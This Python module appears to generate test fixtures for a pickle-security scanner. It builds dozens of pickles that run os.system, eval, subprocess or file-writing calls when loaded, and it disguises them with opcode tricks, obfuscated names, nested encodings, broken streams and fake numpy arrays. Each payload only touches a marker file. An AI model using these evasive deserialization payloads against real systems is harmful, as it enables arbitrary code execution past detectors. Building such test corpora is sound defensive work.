"""Pickles that run something when they are loaded: all protocols, opcodes in all orders, hidden in many ways.

``pickles(marker)`` makes them; each writes the file ``marker`` when it is loaded by ``pickle.loads``.
"""

import os
import pickle
import struct

from support.attacks import Attack

EXTENSION = 240  # the code that a loader registers for os.system


def _touch(marker: str) -> str:
    return f"touch {marker}"


class _Reduced:
    """Pickles as a call."""

    def __init__(self, call: object, *arguments: object) -> None:
        self._made = call, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self._made


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    data = value.encode()
    return (
        b"\x8c" + bytes([len(data)]) + data
        if len(data) < 256
        else b"X" + struct.pack("<I", len(data)) + data
    )


def long_text(value: str) -> bytes:
    data = value.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def name(path: str) -> bytes:
    """GLOBAL."""
    module, _, last = path.rpartition(".")
    return b"c" + module.encode() + b"\n" + last.encode() + b"\n"


def call(path: str, *arguments: bytes) -> bytes:
    """GLOBAL, its arguments, REDUCE."""
    return name(path) + b"(" + b"".join(arguments) + b"tR"


def evil(marker: str, protocol: int = 4) -> bytes:
    """The plainest one."""
    return pickle.dumps(_Reduced(os.system, _touch(marker)), protocol)


def pickles(marker: str) -> list[Attack]:
    """All of them."""
    made: list[Attack] = []

    def add(title: str, data: bytes, reaches: str = "system", loads: str = "pickle") -> None:
        made.append(Attack(f"{title}.pkl", data, reaches, loads))

    shell, python = _touch(marker), f"open({marker!r}, 'w').close()"
    command, code = text(shell), text(python)
    for protocol in range(6):
        add(f"protocol-{protocol}", evil(marker, protocol))
        add(
            f"protocol-{protocol}-in-a-list",
            pickle.dumps([1, {"a": (_Reduced(os.system, shell),)}, "x"], protocol),
        )
        add(f"protocol-{protocol}-eval", pickle.dumps(_Reduced(eval, python), protocol), "eval")
    # --- the ways to call
    add("reduce", call("os.system", command) + b".")
    add("inst", b"(" + command + b"ios\nsystem\n.")
    add("obj", b"(" + name("os.system") + command + b"o.")
    consumed = b"\x85"
    add("newobj", name("builtins.tuple") + name("builtins.map") + name("os.system") + b"(" + command + b"l\x86\x81" + consumed + b"\x81.")  # fmt: skip
    add("newobj-ex", name("builtins.tuple") + name("builtins.map") + name("os.system") + b"(" + command + b"l\x86}\x92" + consumed + b"}\x92.")  # fmt: skip
    namespace = name("argparse.Namespace") + b")R"
    add(
        "build-setstate",
        namespace + b"}" + text("__setstate__") + name("os.system") + b"sb" + command + b"b.",
    )
    add(
        "build-slots",
        namespace + b"N}" + text("__setstate__") + name("os.system") + b"s\x86b" + command + b"b.",
    )
    add("partial", call("functools.partial", name("os.system"), command) + b")R.")
    add("append", namespace + b"}" + text("append") + name("os.system") + b"sb" + command + b"a.")
    # --- the ways to name
    stack = b"\x93"
    add("stack-global", text("os") + text("system") + stack + command + b"\x85R.")
    add("stack-global-long", long_text("os") + long_text("system") + stack + command + b"\x85R.")
    add(
        "stack-global-memo",
        text("system") + b"\x94" + text("os") + b"\x9400" + b"h\x01h\x00" + stack + command + b"\x85R.",
    )
    add("stack-global-put", b"Vsystem\np7\n0Vos\np9\n0g9\ng7\n" + stack + command + b"\x85R.")
    # Python's own needs gigabytes for this memo; others do not.
    add("stack-global-long-put", text("os") + b"r\xff\xff\xff\x7f" + text("system") + stack + command + b"\x85R.", loads="")  # fmt: skip
    add(
        "stack-global-dup",
        text("system") + b"2\x940" + b"0" + text("os") + b"h\x00" + stack + command + b"\x85R.",
    )
    add("stack-global-strings", b"S'\\x6fs'\nS'sys\\164em'\n" + stack + command + b"\x85R.")
    add("stack-global-unicode", b"V\\u006f\\u0073\nV\\u0073ystem\n" + stack + command + b"\x85R.")
    add("stack-global-binstring", b"U\x02osT\x06\0\0\0system" + stack + command + b"\x85R.")
    add("stack-global-joined", text("os") + call("operator.concat", text("sys"), text("tem")) + stack + command + b"\x85R.", "computed")  # fmt: skip
    add(
        "stack-global-way",
        b"\x80\x04" + text("logging") + text("os.system") + stack + command + b"\x85R.",
        "os.system",
    )
    add("stack-global-dunder", b"\x80\x04" + text("builtins") + text("object.__class__.__call__") + stack + b"0" + call("os.system", command) + b".")  # fmt: skip
    add("getattr", call("builtins.getattr", call("importlib.import_module", text("os")), text("system")) + command + b"\x85R.", "import_module")  # fmt: skip
    add("import", call("builtins.getattr", call("builtins.__import__", text("os")), text("system")) + command + b"\x85R.", "__import__")  # fmt: skip
    add("modules", call("operator.getitem", name("sys.modules"), text("os")) + b"0" + call("os.system", command) + b".", "sys.modules")  # fmt: skip
    add("extension-1", b"\x82" + bytes([EXTENSION]) + command + b"\x85R.", "extension")
    add("extension-2", b"\x83" + struct.pack("<H", EXTENSION) + command + b"\x85R.", "extension")
    add("extension-4", b"\x84" + struct.pack("<I", EXTENSION) + command + b"\x85R.", "extension")
    # --- through what one does not think of
    system: dict[str, tuple[str, tuple[bytes, ...]]] = {
        "exec": ("builtins.exec", (code,)),
        "popen": ("os.popen", (command,)),
        "posix": ("posix.system", (command,)),
        "getoutput": ("subprocess.getoutput", (command,)),
        "check-output": ("subprocess.check_output", (b"(" + text("touch") + text(marker) + b"l",)),
        "call": ("subprocess.call", (b"(" + text("touch") + text(marker) + b"l",)),
        "pty": ("pty.spawn", (b"(" + text("touch") + text(marker) + b"l",)),
        "timeit": ("timeit.timeit", (text("0"), code)),
        "cprofile": ("cProfile.run", (code,)),
        "profile": ("profile.run", (code,)),
        "runpy": ("runpy._run_code", (call("builtins.compile", code, text("x"), text("exec")), b"}")),
        "open": ("builtins.open", (text(marker), text("w"))),
        "io-open": ("io.open", (text(marker), text("w"))),
        "fileio": ("_io.FileIO", (text(marker), text("w"))),
        "codecs": ("codecs.open", (text(marker), text("w"))),
        "copyfile": ("shutil.copyfile", (text("/etc/hostname"), text(marker))),
        "mknod": ("os.mknod", (text(marker),)),
        "mkdir": ("os.mkdir", (text(marker),)),
        "symlink": ("posix.symlink", (text("/"), text(marker))),
        "posix-open": ("posix.open", (text(marker), b"J" + struct.pack("<i", os.O_CREAT | os.O_WRONLY))),
        "distutils": ("distutils.file_util.write_file", (text(marker), b"]")),
        "zipapp": ("pathlib.Path.touch", (call("pathlib.Path", text(marker)),)),
        "write-text": ("pathlib.Path.write_text", (call("pathlib.Path", text(marker)), text("x"))),
        "sqlite": ("sqlite3.connect", (text(marker),)),
        "logging": ("logging.FileHandler", (text(marker),)),
        "numpy-memmap": ("numpy.memmap", (text(marker), text("uint8"), text("w+"), b"K\x00", b"K\x01\x85")),
        "numpy-savetxt": ("numpy.savetxt", (text(marker), b"]")),
        "numpy-runstring": ("numpy.testing._private.utils.runstring", (code, b"}")),
    }  # fmt: skip
    for title, (path, arguments) in system.items():
        if path.startswith("pathlib.Path."):
            # A method is reached in protocol 4 alone.
            method = b"\x80\x04" + text("pathlib") + text(path.removeprefix("pathlib.")) + stack
            add(f"through-{title}", method + b"(" + b"".join(arguments) + b"tR.", path)
        else:
            # popen's is not waited for.
            add(
                f"through-{title}",
                call(path, *arguments) + b".",
                path,
                "" if title == "popen" else "pickle",
            )
    maker = call("operator.methodcaller", text("system"), command)
    add(
        "through-methodcaller",
        maker + call("importlib.import_module", text("os")) + b"\x85R.",
        "methodcaller",
    )
    getter = (
        call("operator.attrgetter", text("system")) + call("importlib.import_module", text("os")) + b"\x85R"
    )
    add("through-attrgetter", getter + command + b"\x85R.", "attrgetter")
    compiled = call("builtins.compile", code, text("x"), text("exec"))
    add("through-function-type", call("types.FunctionType", compiled, b"}") + b")R.", "FunctionType")
    add("through-marshal", call("types.FunctionType", call("marshal.loads", call("marshal.dumps", compiled)), b"}") + b")R.", "marshal")  # fmt: skip
    add(
        "through-map",
        name("builtins.list") + call("builtins.map", name("os.system"), b"(" + command + b"l") + b"\x85R.",
    )
    add("in-sets", evilish(marker))
    inner = evil(marker)
    add(
        "nested-loads",
        call("pickle.loads", b"B" + struct.pack("<I", len(inner)) + inner) + b".",
        "pickle.loads",
    )
    add(
        "nested-loads-c",
        call("_pickle.loads", b"\x8e" + struct.pack("<Q", len(inner)) + inner) + b".",
        "_pickle.loads",
    )
    add(
        "nested-codecs",
        call("pickle.loads", call("codecs.decode", text(inner.hex()), text("hex"))) + b".",
        "pickle.loads",
    )
    # --- streams that are not as they should be
    run = call("os.system", command)
    add("broken-no-stop", b"\x80\x04" + run)
    add("broken-garbage", b"\x80\x04" + run + b"\xff\xff")
    add("broken-underflow", b"\x80\x04" + run + b"000")
    add("broken-memo", b"\x80\x04" + run + b"h\x63.")
    add("broken-text", run + b"V\xff\\uZZZZ\n.")
    add("broken-without-header", run)
    add("trailing-data", run + b"." + os.urandom(64))
    add("second-pickle-first-clean", b"\x80\x04]." + b"\x80\x04" + run + b".", loads="twice")
    add("many-protocols", b"\x80\x02\x80\x05\x80\x00" + run + b".")
    add("frames", b"\x80\x04\x95" + struct.pack("<Q", len(run) + 1) + run + b".")
    add("noise", b"N0]0}0)0(1" + b"(NNN1" + b"K\x052" + b"00" + run + b".")
    add("late", b"\x80\x04" + b"N0" * 50_000 + run + b".")
    add(
        "large-before",
        b"\x80\x04" + b"B" + struct.pack("<I", 3_000_000) + bytes(3_000_000) + b"0" + run + b".",
    )
    wrapper = name("joblib.numpy_pickle.NumpyArrayWrapper") + b")\x81}("
    kind = call("numpy.dtype", text("u1"))
    false = wrapper + text("shape") + b"K\xff\x85" + text("dtype") + kind + b"ub"
    add("behind-a-false-array", b"\x80\x04" + false + b"0" + run + b"." + bytes(255))
    add("octal-number", b"I010\n0" + run + b".", loads="pickle")
    add("long-text-before", b"V" + b"x" * 60_000 + b"\n0" + run + b".")
    add("persistent", b"\x80\x04" + run + b"0Pwhat\n.", loads="pickle")
    add("unicode-newlines", b"cos\r\nsystem\n0" + run + b".", loads="")
    return made


def evilish(marker: str) -> bytes:
    """The call in a tuple, a dictionary, a set and a frozen set."""
    run = call("os.system", text(_touch(marker)))
    return b"\x80\x04\x8f(" + run + b"\x90" + b"(" + run + b"\x91" + b"\x86}" + text("k") + run + b"s\x86."


LOADER = """
import copyreg, io, os, pickle, sys
copyreg.add_extension("posix", "system", 240)
marker, folder = sys.argv[1:3]
for name in sorted(os.listdir(folder)):
    way, data = name.split("~")[0], open(os.path.join(folder, name), "rb").read()
    try:
        if way == "pickle":
            pickle.loads(data)
        elif way == "twice":
            stream = io.BytesIO(data)
            pickle.load(stream), pickle.load(stream)
        elif way == "joblib":
            import joblib
            joblib.load(os.path.join(folder, name))
        elif way == "numpy":
            import numpy
            found = numpy.load(os.path.join(folder, name), allow_pickle=True)
            [found[each] for each in getattr(found, "files", [])]
    except BaseException as error:
        pass
    print(name, os.path.lexists(marker), flush=True)
    if os.path.lexists(marker):
        os.rmdir(marker) if os.path.isdir(marker) and not os.path.islink(marker) else os.remove(marker)
"""
